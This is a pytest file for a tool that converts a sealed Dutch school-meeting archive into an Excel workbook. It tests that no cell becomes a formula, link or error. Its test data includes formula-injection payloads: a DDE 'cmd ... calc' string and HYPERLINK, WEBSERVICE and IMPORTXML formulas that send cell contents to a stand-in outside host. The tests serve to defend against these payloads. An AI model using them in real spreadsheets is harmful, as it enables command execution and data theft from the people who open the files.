"""An archive as a workbook: what it shows, as texts, numbers and days, and nothing that a workbook would work out by itself."""

from __future__ import annotations

import json
import re
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest

from stslib.archive import read_tables, verify_archive
from stslib.archive.carriers import workbook_of
from stslib.archive.carriers.cells import SHORTENED, as_number
from stslib.archive.keeping.seal import MANIFEST_SLOT, SEAL_SLOT, seal
from stslib.errors import ArchiveError
from stslib.text import escape

FORMULAS = tuple(
    f"{start}{body}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", "\n=", "＝", "=+-", "%0A=")
    for body in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://buiten.voorbeeld/?"&A1,"klik")',
        'WEBSERVICE("https://buiten.voorbeeld/")',
        'IMPORTXML(CONCAT("https://buiten.voorbeeld/",A1),"//a")',
    )
)
LINKS = (
    "https://buiten.voorbeeld/",
    "mailto:a@b.voorbeeld",
    "internal:Scores!A1",
    "external:c:\\x.xlsx",
    "{=1+1}",
    "ftp://x",
    "file:///x",
)
LOOKALIKES = (
    "1",
    "0475 12 34 56",
    "1e5",
    "03-04",
    "1/2",
    "TRUE",
    "ja",
    "#REF!",
    "_x0041_",
    "00123",
    "NaN",
    "inf",
    "1.234",
    "12 %",
)
ODD = (
    "nul \x00 bel \x07 \x1f",
    "halve \ud83d teken \uffff",
    "\u202eom\u202c",
    "regel\r\ntwee\n\tdrie",
    "<b>&amp;</b> ]]>",
    "😀é",
    "   ",
)
SHEETS = ["Scores", "Acties", "Besluiten", "Cijfers", "Over dit bestand"]


def written(folder: Path, tables: Any, **manifest: Any) -> Path:
    """An archive that holds these tables, sealed as a real one."""
    path = folder / "archief.html"
    told = {"school": "School", "created_at": "2026-11-03T13:00:00+00:00", "version": 2, "day": "2026-11-03", **manifest}
    document = (
        f'<!--sts:deel gegevens--><pre hidden id="sts-tables">{escape(json.dumps(tables))}</pre>'
        f"<!--sts:deel zegel-->{MANIFEST_SLOT}{SEAL_SLOT}</html>\n"
    )
    path.write_bytes(seal(document, told))
    return path


def score(**facts: Any) -> dict[str, Any]:
    empty = dict.fromkeys(("instrument", "phase", "section", "scale", "evidence", "ambition", "target"), "")
    return {**empty, "score": "niet besproken", "earlier": [], **facts}


def action(**facts: Any) -> dict[str, Any]:
    return {**dict.fromkeys(("what", "who", "when", "check", "state", "origin", "instrument", "agreed", "due"), ""), **facts}


def figure(**facts: Any) -> dict[str, Any]:
    return {
        "title": "Cijfer",
        "place": "",
        "columns": ["Groep"],
        "rows": [],
        "why": [],
        "counted_on": "",
        "policy": "record",
        **facts,
    }


def values(sheet: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def row_of(sheet: Any, row: int) -> dict[str, Any]:
    titles, cells = [cell.value for cell in sheet[1]], sheet[row]
    return dict(zip(titles, cells, strict=True))


def test_the_workbook_of_a_full_archive_holds_what_the_archive_shows(archived, tmp_path: Path) -> None:
    archive = Path(shutil.copy(archived.result.path, tmp_path / "overleg.html"))
    made = workbook_of(archive)
    assert made == archive.with_suffix(".xlsx")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["overleg.html", "overleg.xlsx"]
    book, tables = openpyxl.load_workbook(made), read_tables(archive)
    assert book.sheetnames == SHEETS
    assert book["Scores"].max_row == 1 + len(tables["scores"])
    assert book["Acties"].max_row == 1 + len(tables["actions"])
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"n", "s", "d"}
    assert min(len(tables["scores"]), len(tables["actions"])) > 3


def test_no_text_becomes_a_formula_a_link_a_number_or_an_error(tmp_path: Path) -> None:
    texts = [*FORMULAS, *LINKS, *LOOKALIKES]
    assert len(FORMULAS) == 60
    tables = {
        "scores": [
            score(scale=text, evidence=text, score=text, target=text, earlier=[{"day": text, "score": text}]) for text in texts
        ],
        "actions": [action(what=text, who=text, when=text) for text in texts],
        "figures": [figure(title=text, columns=[text], rows=[[text]], why=[{"label": text, "text": text}]) for text in texts],
        "focus": dict.fromkeys(("group", "problem", "impact", "reason"), texts[0]),
        "decisions": [{"what": text, "text": text, "from": "", "instrument": text} for text in texts],
    }
    made = workbook_of(written(tmp_path, tables, school="=1+1", title="@SUM(A1)", closed_by="+1", participants="-1"))
    book = openpyxl.load_workbook(made)
    for sheet, title in (
        ("Scores", "Schaal"),
        ("Scores", "Waarom deze score"),
        ("Scores", "Score nu"),
        ("Acties", "Wat"),
        ("Acties", "Wie"),
    ):
        cells = [row_of(book[sheet], number)[title] for number in range(2, 2 + len(texts))]
        assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in texts]
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.quotePrefix for cell in cells if cell.value[0] in "=+-@\t")
    with ZipFile(made) as parts:
        for name in parts.namelist():
            content = parts.read(name)
            assert not re.search(rb"<f[ >/]|<hyperlink|externalLink|t=\"e\"|t=\"b\"", content), name
        assert not [name for name in parts.namelist() if "external" in name or "calcChain" in name or "macro" in name.lower()]
        links = [parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/_rels/")]
        assert links == []


@pytest.mark.parametrize("text", ODD)
def test_what_a_workbook_cannot_hold_is_told_apart_and_the_rest_is_as_it_was(tmp_path: Path, text: str) -> None:
    sheet = openpyxl.load_workbook(workbook_of(written(tmp_path, {"actions": [action(what=text, who="x")]})))["Acties"]
    kept = row_of(sheet, 2)["Wat"].value
    assert kept == re.sub("[\x00\x07\x1f\ud83d\uffff]", "\ufffd", text.replace("\r\n", "\n"))


def test_a_text_that_fills_more_than_a_cell_is_shortened_and_says_so(tmp_path: Path) -> None:
    tables = {"actions": [action(what="é" * 32_767), action(what="😀" * 20_000), action(what="x" * 32_768)]}
    book = openpyxl.load_workbook(workbook_of(written(tmp_path, tables)))
    fits, signs, letters = (row_of(book["Acties"], number)["Wat"].value for number in (2, 3, 4))
    assert fits == "é" * 32_767
    assert letters == "x" * (32_767 - len(SHORTENED)) + SHORTENED
    assert signs.endswith("😀" + SHORTENED)
    assert len(signs.encode("utf-16-le")) <= 2 * 32_767
    assert ["Afgekorte teksten", "2; ze staan volledig in het archief."] in values(book["Over dit bestand"])


def test_scores_are_numbers_and_words_are_words_with_earlier_ones_from_old_to_new(tmp_path: Path) -> None:
    old, new = {"day": "20/03/2025", "score": 4}, {"day": "05/06/2025", "score": "weet niet"}
    tables = {
        "scores": [
            score(scale="een", score=7, target=8, earlier=[new, old]),
            score(scale="twee", earlier=[old, {**old, "score": 0}]),
        ]
    }
    sheet = openpyxl.load_workbook(workbook_of(written(tmp_path, tables)))["Scores"]
    assert [cell.value for cell in sheet[1]][4:9] == ["20/03/2025", "20/03/2025", "05/06/2025", "Score nu", "Streefdoel"]
    assert [cell.value for cell in sheet[2]][4:9] == [4, None, "weet niet", 7, 8]
    assert [cell.value for cell in sheet[3]][4:9] == [4, 0, None, "niet besproken", None]


def test_days_are_days_and_what_is_no_day_stays_as_it_was_said(tmp_path: Path) -> None:
    tables = {"actions": [action(when="16 mei 2025", due="2025-05-16"), action(when="na de krokus"), action(when="31/02/2026")]}
    sheet = openpyxl.load_workbook(workbook_of(written(tmp_path, tables)))["Acties"]
    cells = [row_of(sheet, number)["Tegen wanneer"] for number in (2, 3, 4)]
    assert [cell.value for cell in cells] == [datetime(2025, 5, 16), "na de krokus", "31/02/2026"]
    assert cells[0].number_format == "dd/mm/yyyy"


@pytest.mark.parametrize(
    ("told", "number"),
    [
        ("1.673", (1673.0, "#,##0")),
        ("57", (57.0, "#,##0")),
        ("0,8\u00a0%", (0.008, "0.0%")),
        ("−0,5", (-0.5, "#,##0.0")),
        ("220.978,25", (220978.25, "#,##0.00")),
        ("12 %", (0.12, "0%")),
        ("–", None),
        ("0,6 – 1,0\u00a0%", None),
        ("1.12", None),
        ("5 of meer", None),
        ("", None),
        (True, None),
        ("9" * 400, None),
        ("٣", None),
    ],
)
def test_a_number_that_an_archive_shows_is_a_number_and_what_it_hides_is_not(told: object, number: object) -> None:
    found = as_number(told)
    assert found == number if number is None else (round(found[0], 9), found[1]) == number


def test_a_figure_stands_with_its_title_its_reasons_and_hidden_cells_as_dashes(tmp_path: Path) -> None:
    why = [{"label": "Codes", "text": "B"}, {"label": "Niet getoond", "text": "te klein"}]
    one = figure(
        title="De 2e graad",
        place="Fase 1",
        columns=["Groep", "Aantal", "Deel"],
        rows=[["1", "–", "4,4 %"]],
        why=why,
        counted_on="03/11/2026",
    )
    sheet = openpyxl.load_workbook(workbook_of(written(tmp_path, {"figures": [one, figure(title="Twee", pinned=True)]})))[
        "Cijfers"
    ]
    rows = [row[:3] for row in values(sheet)]
    assert rows[2:10] == [
        ["De 2e graad", None, None],
        ["Fase 1", None, None],
        ["Groep", "Aantal", "Deel"],
        ["1", "–", 0.044],
        ["Codes", "B", None],
        ["Niet getoond", "te klein", None],
        ["Geteld op", datetime(2026, 11, 3), None],
        ["Regel voor kleine groepen", "record", None],
    ]
    assert [row[0] for row in rows[11:13]] == ["Twee", "vastgezet cijfer, met zijn waarde van die dag"]


def test_the_last_sheet_says_which_archive_it_comes_from(tmp_path: Path) -> None:
    archive = written(tmp_path, {"scores": []}, closed_by="directie", number=4, session="3f2a")
    told = dict(values(openpyxl.load_workbook(workbook_of(archive))["Over dit bestand"]))
    assert told["SHA-256 van het archief"] == verify_archive(archive).sha256
    assert told["Archief"] == "archief.html"
    assert told["Dag"] == datetime(2026, 11, 3)
    assert told["Archief gemaakt op"] == "03/11/2026 14:00"
    assert (told["Sessie"], told["Afgesloten door"], told["Versie van het archief"]) == ("4 (3f2a)", "directie", "2")
    assert "streepje" in told["Streepjes"]


def test_of_a_trajectory_it_names_every_session(tmp_path: Path) -> None:
    archive = written(tmp_path, {"scores": []}, kind="trajectory", session="b", sessions=["a", "b"])
    told = dict(values(openpyxl.load_workbook(workbook_of(archive))["Over dit bestand"]))
    assert told["Sessies"] == "a, b"
    assert "Sessie" not in told


def test_it_can_be_read_and_printed_as_it_comes(archived, tmp_path: Path) -> None:
    archive = Path(shutil.copy(archived.result.path, tmp_path / "a.html"))
    book = openpyxl.load_workbook(workbook_of(archive))
    for sheet in book:
        assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    for name in ("Scores", "Acties", "Besluiten"):
        sheet = book[name]
        assert sheet.freeze_panes[1:] == "2"
        assert sheet.auto_filter.ref.startswith("A1:")
        assert sheet.print_title_rows == "$1:$1"
        assert all(sheet.column_dimensions[column].width >= 10 for column in "ABCD")


def test_the_same_archive_gives_the_same_bytes(tmp_path: Path) -> None:
    archive = written(tmp_path, {"actions": [action(what="x")]})
    first = workbook_of(archive).read_bytes()
    assert workbook_of(archive).read_bytes() == first
    created = openpyxl.load_workbook(archive.with_suffix(".xlsx")).properties.created
    assert created.replace(tzinfo=UTC) == datetime(2026, 11, 3, 13, tzinfo=UTC)


def test_empty_tables_say_that_there_is_nothing_yet(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(workbook_of(written(tmp_path, {"scores": [], "actions": [], "figures": [], "focus": None})))
    told = [cell for sheet in book for row in values(sheet) for cell in row if cell]
    for text in (
        "In dit archief staan geen schalen.",
        "Er zijn nog geen acties gepland.",
        "In dit archief staan geen cijfers.",
    ):
        assert text in told


def test_an_archive_from_before_the_tables_and_a_changed_one_are_refused_with_the_way_out(tmp_path: Path) -> None:
    older = tmp_path / "ouder.html"
    older.write_bytes(seal(f"<!--sts:deel zegel-->{MANIFEST_SLOT}{SEAL_SLOT}</html>\n", {}))
    with pytest.raises(ArchiveError, match="geen tabellen") as told:
        workbook_of(older)
    assert "sluit ze opnieuw af" in told.value.remedy
    changed = written(tmp_path, {"scores": []})
    changed.write_bytes(changed.read_bytes().replace(b"scores", b"scorez"))
    with pytest.raises(ArchiveError, match="niet meer wat het bij het afsluiten was"):
        workbook_of(changed)
    assert list(tmp_path.glob("*.xlsx")) == []
